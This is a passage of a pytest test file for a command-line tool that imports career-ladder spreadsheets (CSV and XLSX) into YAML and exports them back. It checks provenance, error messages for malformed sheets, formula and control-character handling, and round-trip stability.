"""Spreadsheets: ``pmframework import`` reads CSV and XLSX ladders, ``export`` writes them back.

The fixtures are under tests/fixtures/spreadsheets/, written by make_fixtures.py there.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import runpy
import shlex
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from conftest import EXAMPLES, REPO, CliResult
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pmframework.check.engine import load_ladder, validate_paths
from pmframework.load.document import parse_document
from pmframework.model import Ladder
from pmframework.resources import builtin_names
from pmframework.sheets.exporter import csv_bytes, export_ladder, track_table
from pmframework.sheets.grid import METADATA_MARK, neutralize_formula, restore_formula
from pmframework.sheets.importer import (
    AREA_HEADERS,
    COMPETENCY_HEADERS,
    DESCRIPTION_HEADERS,
    import_sheet,
    one_line,
    slug,
)
from pmframework.sheets.yaml_text import yaml_text

FIXTURES = REPO / "tests" / "fixtures" / "spreadsheets"
BAD = FIXTURES / "bad"
ACME = str(EXAMPLES / "valid" / "acme-small.yaml")
RunCli = Callable[..., CliResult]

MAKE = runpy.run_path(str(FIXTURES / "make_fixtures.py"))
PM_LEVELS: list[str] = MAKE["PM_LEVELS"]
PM_AREAS = {
    "Impact & Influence": ["Business impact", "Stakeholder management", "Communication"],
    "Craft": [
        "Product discovery",
        "Product strategy",
        "Execution & delivery",
        "Data & analytics",
        "Technical fluency",
    ],
    "People": ["Collaboration", "Mentoring & coaching"],
}


def imported(run_cli: RunCli, sheet: Path, out: Path, *args: str) -> Ladder:
    result = run_cli("import", str(sheet), "-o", str(out), *args)
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith(f"wrote {out}: ")
    return load_ladder(str(out))


def raw(path: Path) -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(path.read_text(encoding="utf-8"))
    return data


def content(ladder: Ladder, track_id: str | None = None) -> dict[str, Any]:
    """What a reader of one track's sheet sees: titles, names and texts, not ids."""
    track = ladder.tracks[0] if track_id is None else ladder.track(track_id)
    assert track is not None
    applies = [c for c in ladder.competencies if c.applies_to(track.id)]
    areas = [
        (area.name, [c.name for c in area.competencies if c.applies_to(track.id)])
        for area in ladder.areas
    ]
    return {
        "levels": [level.title for level in track.levels],
        "areas": [(name, names) for name, names in areas if names],
        "descriptions": {c.name: c.description.text if c.description else None for c in applies},
        "cells": {
            (level.title, c.name): (
                [s.text for s in expectation.criteria],
                [s.text for s in expectation.examples],
            )
            for level in track.levels
            for c in applies
            if (expectation := level.expectations.get(c.id)) is not None
            and (expectation.criteria or expectation.examples)  # a sheet carries no proficiency
        },
    }


def x_cell(path: Path, level: str, competency: str) -> list[str]:
    data = raw(path)
    found = next(lv for lv in data["tracks"][0]["levels"] if lv["id"] == level)
    expectation = found["expectations"][competency]
    return [s["x-cell"] for kind in ("criteria", "examples") for s in expectation.get(kind, ())]


# --- fixtures --------------------------------------------------------------------------------


def test_committed_fixtures_are_what_make_fixtures_writes(tmp_path: Path) -> None:
    MAKE["make"](tmp_path)
    written = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*") if p.is_file())
    committed = sorted(
        p.relative_to(FIXTURES) for p in FIXTURES.rglob("*") if p.is_file() and p.suffix != ".py"
    )
    assert written == committed
    for name in written:
        assert comparable(tmp_path / name) == comparable(FIXTURES / name), (
            f"{name} is stale: run python tests/fixtures/spreadsheets/make_fixtures.py"
        )


def comparable(path: Path) -> bytes | dict[str, bytes]:
    """A fixture's bytes; for a workbook, its parts but docProps/app.xml, which names the
    openpyxl release that wrote it (the suite runs with the newest and the lowest allowed)."""
    if path.suffix != ".xlsx" or not zipfile.is_zipfile(path):
        return path.read_bytes()
    with zipfile.ZipFile(path) as workbook:
        return {n: workbook.read(n) for n in workbook.namelist() if n != "docProps/app.xml"}


# --- import ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["pm-ladder.csv", "pm-ladder.xlsx"])
def test_product_management_sheet_imports_as_a_clean_ladder(
    run_cli: RunCli, tmp_path: Path, name: str
) -> None:
    out = tmp_path / "pm.yaml"
    ladder = imported(run_cli, FIXTURES / name, out, "--organization", "Acme")

    report = validate_paths([str(out)])
    assert report.findings == [], [f.message for f in report.findings]
    assert ladder.framework.organization == "Acme"
    assert ladder.framework.status == "draft"
    [track] = ladder.tracks
    assert track.kind == "individual-contributor"
    assert [lv.title for lv in track.levels] == PM_LEVELS
    assert [lv.rank for lv in track.levels] == [1, 2, 3, 4, 5]
    assert track.levels[0].id == "junior-product-manager"
    assert {a.name: [c.name for c in a.competencies] for a in ladder.areas} == PM_AREAS
    assert [a.id for a in ladder.areas] == ["impact-influence", "craft", "people"]
    assert ladder.competency("execution-delivery") is not None
    discovery = ladder.competency("product-discovery")
    assert discovery is not None and discovery.description is not None
    assert discovery.description.text.startswith("Finds problems worth solving")


def test_provenance_names_the_sheet_and_the_cell(run_cli: RunCli, tmp_path: Path) -> None:
    out = tmp_path / "pm.yaml"
    ladder = imported(run_cli, FIXTURES / "pm-ladder.xlsx", out)
    data = raw(out)
    assert data["sources"] == [{"id": "ladder", "document": "pm-ladder.xlsx", "title": "Ladder"}]
    # Row 7 is Execution & delivery; column D the first level.
    assert x_cell(out, "junior-product-manager", "execution-delivery") == ["Ladder!D7"]
    assert x_cell(out, "principal-product-manager", "mentoring-coaching") == ["Ladder!H11"]
    # Every text is the sheet's; import writes none of its own (no generated description).
    assert "description" not in data["framework"]
    assert all(s.source == "ladder" for s in ladder.statements())
    competency = data["areas"][1]["competencies"][0]
    assert competency["x-cell"] == "Ladder!B5"
    assert competency["description"]["x-cell"] == "Ladder!C5"
    assert data["tracks"][0]["levels"][2]["x-cell"] == "Ladder!F1"

    csv_out = tmp_path / "pm-csv.yaml"
    imported(run_cli, FIXTURES / "pm-ladder.csv", csv_out)
    # A CSV file's one sheet is named after the file, as Excel names it; quoted for the dash.
    assert x_cell(csv_out, "junior-product-manager", "execution-delivery") == ["'pm-ladder'!D7"]
    assert raw(csv_out)["sources"][0] == {
        "id": "pm-ladder",
        "document": "pm-ladder.csv",
        "title": "pm-ladder",
    }


def test_multi_line_cells_keep_their_paragraphs_and_line_breaks(
    run_cli: RunCli, tmp_path: Path
) -> None:
    ladder = imported(run_cli, FIXTURES / "pm-ladder.csv", tmp_path / "pm.yaml")
    senior = ladder.level("senior-product-manager")
    lead = ladder.level("lead-product-manager")
    principal = ladder.level("principal-product-manager")
    assert senior is not None and lead is not None and principal is not None

    # A blank line inside a cell separates two criteria.
    impact = senior.expectations["business-impact"]
    assert [s.text for s in impact.criteria] == [
        "Delivers measurable improvements to revenue, retention or cost for a product area.",
        "Chooses the bets with the largest expected impact and stops work that is not paying "
        "off, even when it is well advanced.",
    ]
    # A single line break stays inside its paragraph.
    coaching = lead.expectations["mentoring-coaching"]
    assert coaching.criteria[0].text == (
        "Coaches several product managers on:\n• their craft\n• their careers"
    )
    assert len(coaching.criteria) == 2
    # A paragraph starting "Example:" is an example.
    strategy = principal.expectations["product-strategy"]
    assert len(strategy.criteria) == 1
    assert [s.text for s in strategy.examples] == [
        "Led the decision to rebuild the platform for mobile-first customers two years before "
        "competitors."
    ]


def test_csv_and_xlsx_of_the_same_sheet_import_the_same(run_cli: RunCli, tmp_path: Path) -> None:
    from_csv = imported(run_cli, FIXTURES / "pm-ladder.csv", tmp_path / "a.yaml")
    from_xlsx = imported(run_cli, FIXTURES / "pm-ladder.xlsx", tmp_path / "b.yaml")
    assert content(from_csv) == content(from_xlsx)


def test_transposed_engineering_sheet(run_cli: RunCli, tmp_path: Path) -> None:
    out = tmp_path / "eng.yaml"
    ladder = imported(run_cli, FIXTURES / "engineering-transposed.csv", out)
    assert validate_paths([str(out)]).findings == []
    assert [lv.title for lv in ladder.levels] == [
        "Engineer I",
        "Engineer II",
        "Senior Engineer",
        "Staff Engineer",
        "Principal Engineer",
    ]
    assert {a.name: [c.name for c in a.competencies] for a in ladder.areas} == {
        "Technical": ["Code quality", "System design"],
        "Execution": ["Delivery", "Operations"],
        "Team": ["Collaboration"],
    }
    staff = ladder.level("staff-engineer")
    assert staff is not None and staff.summary is not None
    assert staff.summary.text == "Shapes the technical direction of several teams."
    design = ladder.competency("system-design")
    assert design is not None and design.description is not None
    assert design.description.text.startswith("Designs systems")
    # Staff Engineer is row 7; System design column D.
    assert x_cell(out, "staff-engineer", "system-design") == ["'engineering-transposed'!D7"]
    senior = ladder.level("senior-engineer")
    assert senior is not None
    assert len(senior.expectations["code-quality"].criteria) == 2


def test_layout_can_be_given(run_cli: RunCli, tmp_path: Path) -> None:
    auto = imported(run_cli, FIXTURES / "engineering-transposed.csv", tmp_path / "a.yaml")
    given_layout = imported(
        run_cli,
        FIXTURES / "engineering-transposed.csv",
        tmp_path / "b.yaml",
        "--layout",
        "columns",
    )
    assert content(auto) == content(given_layout)
    rows = imported(run_cli, FIXTURES / "pm-ladder.csv", tmp_path / "c.yaml", "--layout", "rows")
    assert [lv.title for lv in rows.levels] == PM_LEVELS


def test_a_chosen_sheet_with_its_header_on_row_3(run_cli: RunCli, tmp_path: Path) -> None:
    workbook = FIXTURES / "two-sheets.xlsx"
    out = tmp_path / "design.yaml"
    ladder = imported(run_cli, workbook, out, "--sheet", "Design ladder")
    assert validate_paths([str(out)]).findings == []
    # The banner above the header is the title.
    assert ladder.framework.title == "Product Design Career Ladder"
    assert [lv.title for lv in ladder.levels] == ["Designer", "Senior Designer", "Lead Designer"]
    assert {a.name: [c.name for c in a.competencies] for a in ladder.areas} == {
        "Craft": ["Interaction design", "Visual design"],
        "Research": ["User research", "Facilitation"],
    }
    assert x_cell(out, "designer", "interaction-design") == ["'Design ladder'!C4"]
    assert raw(out)["sources"] == [
        {"id": "design-ladder", "document": "two-sheets.xlsx", "title": "Design ladder"}
    ]

    again = imported(
        run_cli,
        workbook,
        tmp_path / "again.yaml",
        "--sheet",
        "Design ladder",
        "--header-row",
        "3",
        "--title",
        "Design",
    )
    assert again.framework.title == "Design"
    assert content(again) == content(ladder)


def test_ragged_rows_are_padded(run_cli: RunCli, tmp_path: Path) -> None:
    ladder = imported(run_cli, FIXTURES / "ragged.csv", tmp_path / "r.yaml")
    assert [lv.title for lv in ladder.levels] == ["Associate", "Senior"]
    assert [c.name for c in ladder.competencies] == ["Prioritization", "Strategy", "Influence"]
    associate, senior = ladder.levels
    assert set(associate.expectations) == {"prioritization", "influence"}
    assert set(senior.expectations) == {"influence"}


def test_import_does_not_replace_a_file_unless_forced(run_cli: RunCli, tmp_path: Path) -> None:
    out = tmp_path / "pm.yaml"
    out.write_text("keep me\n", encoding="utf-8")
    result = run_cli("import", str(FIXTURES / "ragged.csv"), "-o", str(out))
    assert result.exit_code == 1
    assert "already exists; pass --force" in result.stderr
    assert out.read_text(encoding="utf-8") == "keep me\n"
    imported(run_cli, FIXTURES / "ragged.csv", out, "--force")


def test_ids_are_slugs_and_collisions_are_numbered(tmp_path: Path) -> None:
    assert slug("Impact & Influence", "area") == "impact-influence"
    assert slug("Führung & Qualität", "area") == "fuhrung-qualitat"
    assert slug("製品", "competency") == "competency"
    sheet = tmp_path / "ids.csv"
    sheet.write_text(
        "Competency,Senior PM,Senior P.M.\nStrategy,Sets it.,Owns it.\nStrategy,Writes it.,\n"
        "製品,Knows it.,\n",
        encoding="utf-8",
    )
    ladder = import_sheet(str(sheet)).ladder
    assert [lv.id for lv in ladder.levels] == ["senior-pm", "senior-p-m"]
    assert [c.id for c in ladder.competencies] == ["strategy", "strategy-2", "competency"]


# --- bad sheets ------------------------------------------------------------------------------

BAD_SHEETS = [
    ("empty.csv", (), "empty.csv:1:1: sheet 'empty', cell A1: the sheet is empty"),
    ("empty-sheet.xlsx", (), "empty-sheet.xlsx:1:1: sheet 'Ladder', cell A1: the sheet is empty"),
    ("no-levels.csv", (), "no-levels.csv:1:2: sheet 'no-levels', cell B1: no level columns"),
    (
        "duplicate-levels.csv",
        (),
        "duplicate-levels.csv:1:4: sheet 'duplicate-levels', cell D1: duplicate level name "
        "'Product Manager': B1 names it too",
    ),
    (
        "merged-cells.xlsx",
        (),
        "merged-cells.xlsx:2:1: sheet 'Ladder', cell A2: merged cells (A2:A3); unmerge them",
    ),
    (
        "formula.xlsx",
        (),
        "formula.xlsx:3:3: sheet 'Ladder', cell C3: holds a formula (=B3&\" Ships products.\")",
    ),
    ("image.xlsx", (), "image.xlsx: not an Excel workbook (.xlsx): the file is a PNG image"),
    (
        "ladder-yaml.xlsx",
        (),
        "ladder-yaml.xlsx: not an Excel workbook (.xlsx): the file is a text file",
    ),
    (
        "latin1.csv",
        (),
        "latin1.csv:2:23: not UTF-8 text (byte 0xe9); save the sheet as 'CSV UTF-8'",
    ),
    (
        "no-competency-name.csv",
        (),
        "no-competency-name.csv:3:3: sheet 'no-competency-name', cell C3: row 3 has text but "
        "no competency name in B3",
    ),
    (
        "unheaded-column.csv",
        (),
        "unheaded-column.csv:2:4: sheet 'unheaded-column', cell D2: text in a column whose "
        "header D1 is empty",
    ),
    (
        "unknown-layout.csv",
        (),
        "unknown-layout.csv:1:1: sheet 'unknown-layout', cell A1: cannot tell which way round "
        "the sheet is",
    ),
    (
        "../two-sheets.xlsx",
        ("--sheet", "Nope"),
        "two-sheets.xlsx: no sheet 'Nope'; the sheets are: 'Read me', 'Design ladder'",
    ),
    (
        "../two-sheets.xlsx",
        (),
        "two-sheets.xlsx:1:1: sheet 'Read me', cell A1: no header row",
    ),
    (
        "../two-sheets.xlsx",
        ("--sheet", "Design ladder", "--header-row", "1"),
        "two-sheets.xlsx:1:1: sheet 'Design ladder', cell A1: row 1 (--header-row) has fewer "
        "than two filled cells",
    ),
]


@pytest.mark.parametrize(("name", "args", "message"), BAD_SHEETS)
def test_a_bad_sheet_is_one_clear_line_naming_where(
    run_cli: RunCli, tmp_path: Path, name: str, args: tuple[str, ...], message: str
) -> None:
    out = tmp_path / "out.yaml"
    path = BAD / name
    result = run_cli("import", str(path), "-o", str(out), *args)
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.startswith(f"pmframework: error: {path}".replace(name, "")), result.stderr
    assert message in result.stderr
    assert result.stderr.count("\n") == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert not out.exists()


def test_a_sheet_error_in_a_workbook_names_the_other_sheets(
    run_cli: RunCli, tmp_path: Path
) -> None:
    result = run_cli("import", str(FIXTURES / "two-sheets.xlsx"), "-o", str(tmp_path / "x.yaml"))
    assert "(other sheets: 'Design ladder'; choose one with --sheet)" in result.stderr


@pytest.mark.parametrize(
    ("name", "args", "message"),
    [
        ("ladder.xls", (), "cannot import .xls: use a .csv or .xlsx file; save it as .xlsx"),
        ("ladder.txt", (), "cannot import .txt"),
        ("ragged.csv", ("--sheet", "x"), "--sheet is for .xlsx workbooks"),
    ],
)
def test_usage_errors_exit_2(
    run_cli: RunCli, tmp_path: Path, name: str, args: tuple[str, ...], message: str
) -> None:
    path = FIXTURES / name if (FIXTURES / name).exists() else tmp_path / name
    path.touch()
    result = run_cli("import", str(path), "-o", str(tmp_path / "x.yaml"), *args)
    assert result.exit_code == 2
    assert message in result.stderr


def test_a_missing_sheet_file(run_cli: RunCli, tmp_path: Path) -> None:
    result = run_cli("import", str(tmp_path / "nope.csv"), "-o", str(tmp_path / "x.yaml"))
    assert result.exit_code == 1
    assert result.stderr == f"pmframework: error: {tmp_path / 'nope.csv'}: no such file\n"


def test_a_zip_that_is_not_a_workbook(run_cli: RunCli, tmp_path: Path) -> None:
    import zipfile

    path = tmp_path / "archive.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("notes.txt", "hello")
    result = run_cli("import", str(path), "-o", str(tmp_path / "x.yaml"))
    assert result.exit_code == 1
    assert "not a readable Excel workbook (.xlsx)" in result.stderr
    assert result.stderr.count("\n") == 1


def test_text_that_starts_with_equals_is_text_not_a_formula(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Ladder"
    for row in (["Competency", "Junior", "Senior"], ["Math", "=1+1 is two.", "Knows it."]):
        sheet.append(row)
    sheet["B2"].data_type = "s"
    path = tmp_path / "equals.xlsx"
    workbook.save(path)
    ladder = import_sheet(str(path)).ladder
    assert ladder.levels[0].expectations["math"].criteria[0].text == "=1+1 is two."


def test_semicolon_separated_csv(tmp_path: Path) -> None:
    sheet = tmp_path / "semicolons.csv"
    sheet.write_text(
        'Competency;Junior;Senior\nStrategy;"Knows it; mostly.";Sets it.\n', encoding="utf-8"
    )
    ladder = import_sheet(str(sheet)).ladder
    assert [lv.title for lv in ladder.levels] == ["Junior", "Senior"]
    assert ladder.levels[0].expectations["strategy"].criteria[0].text == "Knows it; mostly."


def test_a_merged_banner_above_the_header_is_fine(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Ladder"
    sheet["A1"] = "Career Ladder 2025"
    sheet.merge_cells("A1:C1")
    for row in (["Competency", "Junior", "Senior"], ["Strategy", "Knows it.", "Sets it."]):
        sheet.append(row)
    path = tmp_path / "banner.xlsx"
    workbook.save(path)
    imported = import_sheet(str(path))
    assert imported.ladder.framework.title == "Career Ladder 2025"
    assert "Ladder!B3" in imported.text


def test_an_error_value_is_reported_at_its_cell(run_cli: RunCli, tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Ladder"
    for row in (["Competency", "Junior", "Senior"], ["Strategy", "Knows it.", "#N/A"]):
        sheet.append(row)
    path = tmp_path / "errors.xlsx"
    workbook.save(path)
    result = run_cli("import", str(path), "-o", str(tmp_path / "x.yaml"))
    assert result.exit_code == 1
    assert f"{path}:2:3: sheet 'Ladder', cell C2: holds the error value #N/A" in result.stderr


# --- export ----------------------------------------------------------------------------------


def test_xlsx_export_is_readable_in_excel(run_cli: RunCli, tmp_path: Path) -> None:
    out = tmp_path / "acme.xlsx"
    result = run_cli("export", ACME, "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == f"wrote {out}\n"

    workbook = openpyxl.load_workbook(out)
    assert workbook.sheetnames == ["Individual contributor", "Management"]
    sheet = workbook["Individual contributor"]
    # Row 1 holds what import needs to give the ladder back (ids, ranks, sources), hidden.
    assert sheet["A1"].value == "pmframework ladder" and sheet.row_dimensions[1].hidden
    header = [c.value for c in sheet[2]]
    assert header == [
        "Area",
        "Competency",
        "Description",
        "Product Manager",
        "Senior Product Manager",
    ]
    assert sheet.freeze_panes == "C3"
    assert all(c.font.bold for c in sheet[2])
    assert all(c.alignment.wrap_text for row in sheet.iter_rows(min_row=2) for c in row)
    for letter in "ABCDE":
        assert sheet.column_dimensions[letter].width > 13
    assert sheet["B3"].value == "Prioritization"
    # The level's proficiency first, then its criteria: a paragraph each.
    assert sheet["D3"].value == "Proficiency: learning\n\nOrders a backlog by impact and effort."
    # People development applies to the management track only.
    names = [row[1].value for row in sheet.iter_rows(min_row=3)]
    assert names == ["Prioritization", "Product discovery", "Influence"]
    management = workbook["Management"]
    assert [c.value for c in management[2]][3:] == ["Group Product Manager"]
    assert "People development" in [row[1].value for row in management.iter_rows(min_row=3)]


def test_csv_export_one_file_per_track(run_cli: RunCli, tmp_path: Path) -> None:
    result = run_cli("export", ACME, "-o", str(tmp_path / "acme.csv"))
    assert result.exit_code == 0, result.stderr
    ic, mgmt = tmp_path / "acme-ic.csv", tmp_path / "acme-mgmt.csv"
    assert result.stdout == f"wrote {ic}\nwrote {mgmt}\n"
    data = ic.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # so that Excel reads UTF-8
    metadata, *rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert metadata[0] == "pmframework ladder"
    assert rows[0] == [
        "Area",
        "Competency",
        "Description",
        "Product Manager",
        "Senior Product Manager",
    ]
    assert rows[1][:4] == [
        "Craft",
        "Prioritization",
        "",
        "Proficiency: learning\n\nOrders a backlog by impact and effort.",
    ]
    assert rows[1][4] == "Proficiency: knowing\n\nMakes trade-offs across teams explicit."

    one = tmp_path / "one.csv"
    result = run_cli("export", ACME, "-o", str(one), "--track", "mgmt")
    assert result.stdout == f"wrote {one}\n"
    assert one.read_text(encoding="utf-8-sig").splitlines()[1].endswith(",Group Product Manager")


def test_resolved_export_shows_inherited_text_marked(run_cli: RunCli, tmp_path: Path) -> None:
    out = tmp_path / "acme.csv"
    result = run_cli("export", ACME, "-o", str(out), "--resolved", "--track", "ic")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[1][4] == (
        "(from Product Manager) Orders a backlog by impact and effort.\n\n"
        "Makes trade-offs across teams explicit."
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("-o", "out.txt"), "cannot tell the format from the extension"),
        (("-o", "out.csv", "--track", "nope"), "has no track 'nope'; its tracks are: ic, mgmt"),
    ],
)
def test_export_usage_errors(
    run_cli: RunCli, tmp_path: Path, args: tuple[str, ...], message: str
) -> None:
    result = run_cli(
        "export", ACME, *(str(tmp_path / a) if a.startswith("out") else a for a in args)
    )
    assert result.exit_code == 2
    assert message in result.stderr


def test_export_format_can_be_given(run_cli: RunCli, tmp_path: Path) -> None:
    out = tmp_path / "ladder.data"
    result = run_cli("export", ACME, "-o", str(out), "--format", "xlsx", "--track", "ic")
    assert result.exit_code == 0, result.stderr
    assert openpyxl.load_workbook(io.BytesIO(out.read_bytes())).sheetnames == [
        "Individual contributor"
    ]


def acme_small_with(path: Path, old: str, new: str) -> Path:
    """The small example ladder with one text replaced, written to ``path``."""
    text = (EXAMPLES / "valid" / "acme-small.yaml").read_text(encoding="utf-8")
    path.write_text(text.replace(old, new), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("old", "new", "where"),
    [
        ("Orders a backlog by impact and effort.", '"Orders a backlog\\x07."', "'ic', row 3"),
        # On the second sheet: every sheet is checked before any is written.
        ("Group Product Manager", '"Group Product\\x07Manager"', "'mgmt', row 2"),
    ],
)
def test_a_control_character_cannot_go_into_xlsx(
    run_cli: RunCli, tmp_path: Path, old: str, new: str, where: str
) -> None:
    ladder = acme_small_with(tmp_path / "bell.yaml", old, new)
    result = run_cli("export", str(ladder), "-o", str(tmp_path / "bell.xlsx"))
    assert result.exit_code == 1
    assert "holds the control character U+0007, which an .xlsx file cannot hold" in result.stderr
    assert f"track {where}, column 4: the text" in result.stderr
    assert not (tmp_path / "bell.xlsx").exists()
    assert run_cli("export", str(ladder), "-o", str(tmp_path / "bell.csv")).exit_code == 0


def test_xlsx_export_keeps_text_that_looks_like_a_formula_as_text(
    run_cli: RunCli, tmp_path: Path
) -> None:
    # A competency's name: its cell (B3, under the hidden metadata row and the header) starts
    # with what it says, where a level's cell starts with its proficiency.
    ladder = acme_small_with(
        tmp_path / "sum.yaml", "name: Prioritization", 'name: "=SUM(A1:A9) of impact."'
    )
    out = tmp_path / "sum.xlsx"
    result = run_cli("export", str(ladder), "-o", str(out))
    assert result.exit_code == 0, result.stderr
    cell = openpyxl.load_workbook(out)["Individual contributor"]["B3"]
    assert (cell.value, cell.data_type) == ("=SUM(A1:A9) of impact.", "s")
    assert cell.alignment.wrap_text


# --- round trip ------------------------------------------------------------------------------


@pytest.mark.parametrize("sheet_format", ["csv", "xlsx"])
def test_export_then_import_gives_the_same_ladder(
    run_cli: RunCli, tmp_path: Path, sheet_format: str
) -> None:
    first = imported(run_cli, FIXTURES / "pm-ladder.csv", tmp_path / "first.yaml")
    exported = tmp_path / f"pm-ladder.{sheet_format}"
    assert run_cli("export", str(tmp_path / "first.yaml"), "-o", str(exported)).exit_code == 0
    second = imported(run_cli, exported, tmp_path / "second.yaml")
    assert content(second) == content(first)
    assert [c.id for c in second.competencies] == [c.id for c in first.competencies]
    assert [lv.id for lv in second.levels] == [lv.id for lv in first.levels]
    assert validate_paths([str(tmp_path / "second.yaml")]).findings == []


@pytest.mark.parametrize("track", ["ic", "mgmt"])
def test_each_track_of_a_ladder_round_trips(run_cli: RunCli, tmp_path: Path, track: str) -> None:
    ladder = load_ladder(ACME)
    out = tmp_path / "acme.xlsx"
    assert run_cli("export", ACME, "-o", str(out), "--track", track).exit_code == 0
    back = imported(run_cli, out, tmp_path / "back.yaml")
    assert content(back, track) == content(ladder, track)


@pytest.mark.parametrize("name", builtin_names())
def test_every_built_in_ladder_round_trips_track_by_track(tmp_path: Path, name: str) -> None:
    ladder = load_ladder(f"builtin:{name}")
    for track in ladder.tracks:
        if not any(c.applies_to(track.id) for c in ladder.competencies):
            continue  # a sheet needs at least one competency row
        for sheet_format in ("csv", "xlsx"):
            out = tmp_path / f"{track.id}.{sheet_format}"
            export_ladder(f"builtin:{name}", str(out), track=track.id)
            back = import_sheet(str(out)).ladder
            assert content(back, track.id) == content(ladder, track.id), (track.id, sheet_format)


def test_round_trip_through_pmframework_diff(run_cli: RunCli, tmp_path: Path) -> None:
    first = tmp_path / "first.yaml"
    imported(run_cli, FIXTURES / "pm-ladder.csv", first)
    # Same file name, so that the source entry and the cell references match as well.
    (tmp_path / "out").mkdir()
    exported = tmp_path / "out" / "pm-ladder.csv"
    assert run_cli("export", str(first), "-o", str(exported)).exit_code == 0
    second = tmp_path / "second.yaml"
    imported(run_cli, exported, second)
    result = run_cli("diff", str(first), str(second))
    assert result.exit_code == 0, result.stdout + result.stderr


@pytest.mark.parametrize("sheet_format", ["csv", "xlsx"])
def test_round_trip_to_another_file_gives_the_same_ladder(
    run_cli: RunCli, tmp_path: Path, sheet_format: str
) -> None:
    mine = tmp_path / "mine.csv"
    mine.write_bytes((FIXTURES / "pm-ladder.csv").read_bytes())
    first, back, second = (
        tmp_path / "imported.yaml",
        tmp_path / f"back.{sheet_format}",
        tmp_path / "back.yaml",
    )
    imported(run_cli, mine, first, "--organization", "Acme")
    assert run_cli("export", str(first), "-o", str(back)).exit_code == 0
    imported(run_cli, back, second, "--organization", "Acme")

    result = run_cli("diff", "--ignore-provenance", str(first), str(second))
    assert result.exit_code == 0, result.stdout + result.stderr
    assert result.stdout == (
        f"--- {first} (Acme: Career ladder 0.1.0)\n"
        f"+++ {second} (Acme: Career ladder 0.1.0)\n"
        "versions of one ladder: same framework id 'acme-career-ladder'; "
        "provenance ignored (sources, quotes, x- keys)\n"
        "no differences\n"
    )

    # Without the option too: the row of metadata gives back the sources and the cells the
    # texts first came from.
    result = run_cli("diff", str(first), str(second))
    assert result.exit_code == 0, result.stdout
    assert result.stdout.endswith("no differences\n")


def test_the_readme_round_trip_is_real_output(
    run_cli: RunCli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    match = re.search(
        r"<!-- round-trip:start -->\n```console\n(.*?)```\n<!-- round-trip:end -->\n(.*?)\n##",
        readme,
        re.S,
    )
    assert match, "README.md lacks the round-trip markers"
    session = match.group(1)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pm-ladder.xlsx").write_bytes((FIXTURES / "pm-ladder.xlsx").read_bytes())
    real = []
    for command in re.findall(r"^\$ (.*)$", session, re.M):
        result = run_cli(*shlex.split(command)[1:])
        assert result.exit_code == 0, (command, result.stderr)
        real.append(f"$ {command}\n{result.stdout}")
    assert "".join(real) == session, "README round trip is stale: paste the real output"


def test_an_imported_ladder_renders(run_cli: RunCli, tmp_path: Path) -> None:
    ladder = tmp_path / "pm.yaml"
    imported(run_cli, FIXTURES / "pm-ladder.xlsx", ladder)
    html = tmp_path / "pm.html"
    result = run_cli("render", str(ladder), "-o", str(html))
    assert result.exit_code == 0, result.stderr
    page = html.read_text(encoding="utf-8")
    assert "Principal Product Manager" in page
    assert "Opened a self-serve channel" in page


# Names that would be read as the Area, Competency or Description column are not level names.
_ROLE_NAMES = AREA_HEADERS | COMPETENCY_HEADERS | DESCRIPTION_HEADERS
_CHARACTERS = st.characters(exclude_categories=["Cs"], exclude_characters="\x00")
_TEXT = st.text(st.one_of(_CHARACTERS, st.sampled_from(',"\n\r ;')), max_size=60)
_NAME = st.text(st.one_of(_CHARACTERS, st.sampled_from(',"\n ')), min_size=1, max_size=20).filter(
    lambda s: bool(one_line(s))
)


@st.composite
def grids(draw: st.DrawFn) -> list[list[str]]:
    levels = draw(
        st.lists(
            _NAME.filter(
                lambda s: " ".join(s.replace(":", " ").split()).casefold() not in _ROLE_NAMES
            ),
            min_size=1,
            max_size=4,
            unique_by=lambda s: one_line(s).casefold(),
        )
    )
    rows = draw(
        st.lists(
            st.tuples(
                _TEXT, _NAME, _TEXT, st.lists(_TEXT, min_size=len(levels), max_size=len(levels))
            ),
            min_size=1,
            max_size=5,
        )
    )
    return [
        ["Area", "Competency", "Description", *levels],
        *([area, name, description, *cells] for area, name, description, cells in rows),
    ]


def without_cells(value: Any) -> Any:
    """Ladder data without its x-cell keys."""
    if isinstance(value, dict):
        return {k: without_cells(v) for k, v in value.items() if k != "x-cell"}
    if isinstance(value, list):
        return [without_cells(v) for v in value]
    return value


@settings(max_examples=75, deadline=None)
@given(grids())
# A name whose line break, once folded, leaves "* " at its start: read the same both times.
@example([["Area", "Competency", "Description", ","], ["*\n,", ",", "", ""]])
def test_csv_import_export_import_is_stable(grid: list[list[str]]) -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        first_sheet = Path(folder) / "a" / "ladder.csv"
        second_sheet = Path(folder) / "b" / "ladder.csv"
        first_sheet.parent.mkdir()
        second_sheet.parent.mkdir()
        stream = io.StringIO(newline="")
        csv.writer(stream).writerows(grid)
        first_sheet.write_text(stream.getvalue(), encoding="utf-8", newline="")
        first = import_sheet(str(first_sheet))
        ladder = first.ladder
        second_sheet.write_bytes(csv_bytes(track_table(ladder, ladder.tracks[0])))
